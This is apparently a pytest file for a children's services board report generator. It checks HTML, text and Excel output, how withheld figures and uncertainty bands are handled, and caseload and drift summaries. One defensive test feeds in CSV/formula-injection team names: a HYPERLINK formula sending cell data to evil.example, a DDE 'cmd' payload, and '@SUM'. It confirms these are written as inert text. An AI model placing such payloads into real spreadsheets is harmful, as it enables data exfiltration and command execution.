"""The board report from inline publication tables: a withheld figure is never shown, a published one shows how
far the records in doubt could move it, and the Excel workbook says the same."""

from __future__ import annotations

import re
import zipfile
from datetime import date, datetime
from xml.etree import ElementTree

import polars as pl

from csc.report import (
    format_band,
    render_caseloads_html,
    render_caseloads_text,
    render_drift_text,
    render_html,
    render_text,
    write_excel,
)
from declarations.marts import MARTS_BY_NAME
from tests.frames import expected

AS_OF = date(2023, 8, 31)
MONTHS = [date(2023, m, 28) for m in range(3, 9)]


def report_rows() -> pl.DataFrame:
    columns = MARTS_BY_NAME["highlight_report"].column_names
    base = {c: None for c in columns} | {f"month_end_{n}": m for n, m in enumerate(MONTHS, start=1)}
    rows = [
        base
        | {
            "indicator_ref": "4.7.2",
            "section": "Visits",
            "title": "CP visits in time",
            "numerator": 887,
            "denominator": 1000,
            "current_value": 88.7,
            "value_low": 88.3,
            "value_high": 89.1,
            "records_in_doubt": 8,
            "period_type": "snapshot",
            "target_min": 80.0,
            "target_upper": 90.0,
            "rag": "amber",
            "status": "published",
        },
        base
        | {
            "indicator_ref": "5.18",
            "section": "Reviews",
            "title": "CLA reviews in time",
            "records_in_doubt": 13,
            "period_type": "snapshot",
            "target_min": 90.0,
            "target_upper": 95.0,
            "status": "withheld",
            "status_reason": "13 record(s) in doubt: the figure could be anywhere from 93.1 to 96.2",
        },
    ]
    return pl.DataFrame(rows, schema={c: None for c in columns}, infer_schema_length=None).select(columns)


CATALOGUE = pl.DataFrame(
    {
        "indicator_ref": ["4.7.2", "5.18"],
        "section": ["Visits", "Reviews"],
        "title": ["CP visits in time", "CLA reviews in time"],
        "period_type": ["snapshot", "snapshot"],
        "polarity": ["higher", "higher"],
        "target_min": [80.0, 90.0],
        "target_upper": [90.0, 95.0],
        "timescales": ["{}", "{}"],
        "note": [None, "Earlier months are indicative."],
    }
)
PUBLICATION = {"as_of": AS_OF, "batch_id": "b1", "published_at": datetime(2023, 9, 1, 6, 0), "run_id": "r1"}


def sheet_rows(path, sheet: int) -> list[list]:
    """The rows of one worksheet of an .xlsx file as written (shared strings resolved, numbers as floats)."""
    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(path) as z:
        shared = [
            "".join(t.text or "" for t in si.iter(f"{{{ns['x']}}}t"))
            for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml")).findall("x:si", ns)
        ]
        root = ElementTree.fromstring(z.read(f"xl/worksheets/sheet{sheet}.xml"))
    rows = []
    for row in root.iter(f"{{{ns['x']}}}row"):
        cells: dict[int, object] = {}
        for c in row.findall("x:c", ns):
            letters = re.match(r"[A-Z]+", c.attrib["r"])
            assert letters, c.attrib["r"]
            column = 0
            for ch in letters.group(0):
                column = column * 26 + ord(ch) - 64
            v = c.find("x:v", ns)
            if v is not None:
                assert v.text is not None, c.attrib["r"]
                cells[column - 1] = shared[int(v.text)] if c.get("t") == "s" else float(v.text)
        rows.append([cells.get(i) for i in range(max(cells, default=-1) + 1)])
    return rows


def test_the_band_beside_a_published_figure():
    assert format_band(88.7, 88.3, 89.1, "higher") == "±0.4"
    assert format_band(88.7, 88.5, 89.1, "higher") == "-0.2 +0.4"
    assert format_band(88.7, 88.7, 89.1, "higher") == "+0.4"
    assert format_band(88.7, 88.7, 88.7, "higher") == ""
    assert format_band(679, 676, 751, "count") == "-3 +72"


def test_html_and_text_never_show_a_withheld_figure():
    html = render_html(report_rows(), CATALOGUE, PUBLICATION)
    text = render_text(report_rows(), CATALOGUE)
    assert "88.7%" in html and "±0.4" in html and "88.7% ±0.4" in text
    withheld_row = next(line for line in html.split("<tr>") if "5.18" in line)
    assert "withheld" in withheld_row and "%</td>" not in withheld_row.split("title")[0]
    assert "13 record(s) to fix: marts.duckdb indicator_doubts where indicator_ref = &#x27;5.18&#x27;" in withheld_row
    assert "Earlier months are indicative." in withheld_row
    line = next(line for line in text.splitlines() if line.startswith("5.18"))
    assert "withheld" in line and "%" not in line


def test_the_workbook_says_withheld_with_the_reason_and_never_the_figure(tmp_path):
    values = pl.DataFrame(
        {
            "indicator_ref": ["4.7.2", "5.18"],
            "period_end": [AS_OF, AS_OF],
            "team_id": ["T1", "T1"],
            "numerator": [40, 95],
            "denominator": [50, 100],
            "value": [80.0, 95.0],
            "value_low": [79.0, 90.0],
            "value_high": [81.0, 99.0],
            "rag": ["amber", None],
            "status": ["published", "withheld"],
            "status_reason": [None, "a test"],
        }
    )
    teams = pl.DataFrame({"team_id": ["T1"], "team_name": ["Team One"], "service_area_name": ["Area"]})
    path = tmp_path / "report.xlsx"
    write_excel(path, report_rows(), values, CATALOGUE, teams, AS_OF)
    sheet = sheet_rows(path, 1)
    heads = sheet[1]
    rows = {r[0]: dict(zip(heads, r, strict=False)) for r in sheet[2:] if len(r) > 1 and r[1]}
    assert rows["5.18"]["Current"] == "withheld" and rows["5.18"].get("Num") is None
    assert rows["5.18"]["Why"].startswith("13 record(s) in doubt")
    assert rows["5.18"]["Records to fix"].startswith("13 record(s) to fix")
    assert rows["4.7.2"]["Current"] == 88.7 and rows["4.7.2"]["Could be out by"] == "±0.4"
    by_team = sheet_rows(path, 2)
    assert by_team[0][:5] + by_team[0][11:] == ["Ref", "Measure", "Team id", "Team", "Period", "Num", "Denom"] + [
        "Value",
        "Could be out by",
        "RAG",
        "Status",
        "Why",
    ]
    no_months = [None] * 6
    assert by_team[1:] == [
        ["4.7.2", "CP visits in time", "T1", "Team One", "at month end", *no_months]
        + [40.0, 50.0, 80.0, "±1.0", "AMBER", "published"],
        ["5.18", "CLA reviews in time", "T1", "Team One", "at month end", *no_months]
        + [None, None, "withheld", None, None, "withheld", "a test"],
    ]


def test_names_that_look_like_formulas_or_links_are_written_as_text(tmp_path):
    """A team name is typed by anyone with access to the case system: it must reach Excel as text, never as a live
    formula or a link."""
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "http://evil.example",
    ]
    values = pl.DataFrame(
        {
            "indicator_ref": ["4.7.2"] * len(hostile),
            "period_end": [AS_OF] * len(hostile),
            "team_id": [f"T{i}" for i in range(len(hostile))],
            "numerator": [40] * len(hostile),
            "denominator": [50] * len(hostile),
            "value": [80.0] * len(hostile),
            "value_low": [80.0] * len(hostile),
            "value_high": [80.0] * len(hostile),
            "rag": ["amber"] * len(hostile),
            "status": ["published"] * len(hostile),
            "status_reason": [None] * len(hostile),
        }
    )
    teams = pl.DataFrame(
        {"team_id": [f"T{i}" for i in range(len(hostile))], "team_name": hostile, "service_area_name": hostile}
    )
    path = tmp_path / "report.xlsx"
    write_excel(path, report_rows(), values, CATALOGUE, teams, AS_OF)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not [n for n in z.namelist() if "externalLink" in n or n.endswith(".rels") and "worksheets" in n]
        for name in sheets:
            xml = z.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml and "hyperlink" not in xml.lower(), name
    by_team = [cell for row in sheet_rows(path, 2) for cell in row if isinstance(cell, str)]
    assert set(hostile) <= set(by_team)


def test_the_caseload_section_names_teams_and_puts_the_whole_service_first():
    by_team = expected(
        MARTS_BY_NAME["caseload_by_team"].polars_schema(),
        [
            (AS_OF, "T2", 1, 25, 25.0, 25.0, 25.0, 25.0, 25, 1, 1, 100.0, 0),
            (AS_OF, None, 2, 40, 20.0, 20.0, 17.5, 22.5, 25, 1, 1, 50.0, 0),
            (AS_OF, "T1", 1, 15, 15.0, 15.0, 15.0, 15.0, 15, 0, 0, 0.0, 0),
            (date(2023, 7, 31), None, 9, 9, 1.0, 1.0, 1.0, 1.0, 1, 0, 0, 0.0, 0),
        ],
    )
    teams = pl.DataFrame(
        {"team_id": ["T1", "T2"], "team_name": ["North <Safeguarding>", "South"], "service_area_name": [None, None]}
    )
    text = render_caseloads_text(by_team, teams, AS_OF).splitlines()
    assert text[0] == f"Caseloads at {AS_OF}:"
    assert [line.split()[0] for line in text[2:]] == ["Whole", "North", "South"]
    assert text[2].split()[-6:] == ["40", "20", "20", "25", "1", "50"]
    page = render_caseloads_html(by_team, teams, AS_OF)
    assert "North &lt;Safeguarding&gt;" in page and "<script" not in page
    assert (
        render_caseloads_text(by_team.clear(), teams, AS_OF) == "Caseloads: no worker holds a child at the period end."
    )


def test_the_drift_summary_counts_each_teams_cases_most_first():
    drift = expected(
        MARTS_BY_NAME["drift_list"].polars_schema(),
        [
            (AS_OF, "T1", "W1", "A", "CP plan", "visit", date(2023, 7, 1), 61, 42),
            (AS_OF, "T2", "W2", "B", "looked after", None, None, None, 42),
            (AS_OF, "T2", "W3", "C", "child in need", "visit", date(2023, 7, 1), 61, 42),
        ],
    )
    teams = pl.DataFrame({"team_id": ["T1", "T2"], "team_name": ["North", "South"], "service_area_name": [None, None]})
    assert render_drift_text(drift, teams).splitlines() == [
        "Drift: 3 open cases with no visit, review or plan change for more than 42 days",
        "  South                                           2",
        "  North                                           1",
        "  (the children, by worker: marts.drift_list)",
    ]


def test_englands_figure_stands_beside_ours_with_its_year():
    rows = report_rows().with_columns(
        pl.when(pl.col("indicator_ref") == "4.7.2").then(71.5).otherwise(None).alias("england_value"),
        pl.when(pl.col("indicator_ref") == "4.7.2").then(2025).otherwise(None).alias("comparator_year"),
    )
    page = render_html(rows, CATALOGUE, PUBLICATION)
    assert '<th scope="col">England</th>' in page
    assert '<td>71.5%<span class="band">2024-25</span></td>' in page
    # only the indicator that has a comparator shows one
    assert page.count('<span class="band">2024-25</span>') == 1
